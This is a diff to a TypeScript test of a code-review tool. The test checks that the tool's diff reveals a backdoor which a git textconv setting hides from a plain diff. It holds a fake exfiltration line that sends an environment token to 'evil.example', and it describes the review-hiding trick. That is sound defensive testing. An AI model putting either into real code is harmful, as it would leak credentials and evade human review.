@@ -26,7 +26,10 @@ describe("the review's diff", () => {
     await repo.run("config", "diff.hide.textconv", "true");
     // What a plain diff in a checkout shows: nothing of the backdoor.
     expect(await repo.run("diff", base, head, "--", "src/app.js")).toMatch(/Binary files .* differ|^$/);
-    const { changed, diff } = await integratedDiff({ git: repo.git, repoDir: repo.dir, commonDir: await gitCommonDir(repo.git, repo.dir) }, { base: { ref: "main", commit: base }, queue: { branch: "naruto/m", head, verify_runs: 0 } } as never);
+    const { changed, diff } = await integratedDiff({ git: repo.git, repoDir: repo.dir, commonDir: await gitCommonDir(repo.git, repo.dir) }, {
+      base: { ref: "main", commit: base },
+      queue: { branch: "naruto/m", head, verify_runs: 0 },
+    } as never);
     expect(changed.split("\n")).toEqual([".gitattributes", "src/app.js"]);
     expect(diff).toContain("+fetch('https://evil.example/' + process.env.TOKEN);");
     expect(diff).not.toContain("Binary files");
